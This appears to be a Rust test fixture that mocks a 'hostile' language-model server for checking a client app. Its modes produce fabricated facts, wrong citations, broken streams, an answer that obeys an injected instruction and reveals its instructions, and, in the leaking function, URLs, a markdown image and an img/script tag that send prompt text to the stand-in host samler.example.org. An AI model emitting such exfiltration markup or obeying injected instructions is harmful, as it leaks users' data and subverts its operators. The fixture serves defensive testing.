//! Hostile models (fiendtlige modeller), each bad in one way.

use super::{
    Asked, Refusal, evidence,
    honest::{as_asked, part, written},
    wire,
};
use crate::{fault, world::World};
use axum::{
    Json,
    body::Body,
    http::{HeaderValue, Response, StatusCode, header},
    response::IntoResponse,
};
use serde_json::Value;
use std::sync::Arc;

/// All the ways.
pub const MODES: [&str; 12] = [
    "invents",
    "miscites",
    "unknown",
    "uncited",
    "obeys",
    "leaks",
    "stalls",
    "breaks-off",
    "not-json",
    "wrong-shape",
    "endless",
    "unavailable",
];

const BEGUN: &str = "data: {\"id\":\"h\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"{\\\"parts\\\":[{\\\"text\\\":\\\"Hei\"},\"finish_reason\":null}]}\n\n";

/// The answer of a mode.
pub(crate) fn answer(world: &Arc<World>, mode: &str, asked: &Asked) -> Response<Body> {
    match mode {
        "stalls" => begun(asked, fault::stalled(world, BEGUN)),
        "breaks-off" => begun(asked, fault::broken(BEGUN)),
        "not-json" => wire::answer(asked, "Selvsagt! Her er svaret: {\"parts\": [ … og så videre"),
        "wrong-shape" => wire::answer(asked, r#"{"parts":"ingen liste","outcome":7,"extra":{"parts":[]}}"#),
        "endless" => wire::answer(asked, &"Saken er under behandling. ".repeat(200_000)),
        "unavailable" => Refusal(503, "overloaded", "The engine is currently overloaded.").into_response(),
        _ => match parts(mode, asked) {
            Some(parts) => wire::answer(asked, &as_asked(asked, &parts, "ready")),
            None => (StatusCode::NOT_FOUND, Json(written(asked))).into_response(),
        },
    }
}

fn begun(asked: &Asked, body: Body) -> Response<Body> {
    let kind = if asked.streams { "text/event-stream" } else { "application/json" };
    let mut response = Response::new(body);
    response.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static(kind));
    response
}

fn parts(mode: &str, asked: &Asked) -> Option<Vec<Value>> {
    let items = evidence::found(&asked.words);
    let numbers: Vec<u64> = items.iter().map(|(number, _)| *number).collect();
    let first = numbers.first().copied().unwrap_or(1);
    let highest = numbers.iter().max().copied().unwrap_or_default();
    Some(match mode {
        "invents" => vec![
            part("Gebyret er kr 98 765, og fristen er 31. februar 2031.", &[first], true),
            part(
                "Saken behandles av Petter Oppdiktet etter plan- og bygningsloven § 99-9, sak 2031/9999.",
                &[first],
                true,
            ),
        ],
        "miscites" => shifted(&items),
        "unknown" => vec![part("Søknaden din er mottatt.", &[highest + 1, 0, 65_535], true)],
        "uncited" => items.iter().map(|(_, text)| part(text, &[], false)).collect(),
        "obeys" => vec![
            part("Som du ba om: søknaden er innvilget, og du slipper å betale gebyr.", &[first], true),
            part("Her er instruksen min:", &[], false),
            part(asked.words.first().map_or("", String::as_str), &[], true),
        ],
        "leaks" => leaking(asked, first),
        _ => return None,
    })
}

/// Right sentences, each with the next one's number.
fn shifted(items: &[evidence::Item]) -> Vec<Value> {
    let numbers = items.iter().map(|(number, _)| *number).cycle().skip(1);
    items.iter().zip(numbers).map(|((_, text), number)| part(text, &[number], false)).collect()
}

/// Addresses that carry away what the model was told.
fn leaking(asked: &Asked, first: u64) -> Vec<Value> {
    let told: String = asked.words.concat().chars().filter(|it| it.is_alphanumeric()).rev().take(80).collect();
    vec![
        part(&format!("Les mer på https://samler.example.org/?d={told}"), &[first], true),
        part(&format!("![bilde](https://samler.example.org/p.png?d={told})"), &[first], false),
        part(
            &format!("<img src=\"https://samler.example.org/q?{told}\"><script>fetch('//samler.example.org')</script>"),
            &[],
            true,
        ),
    ]
}
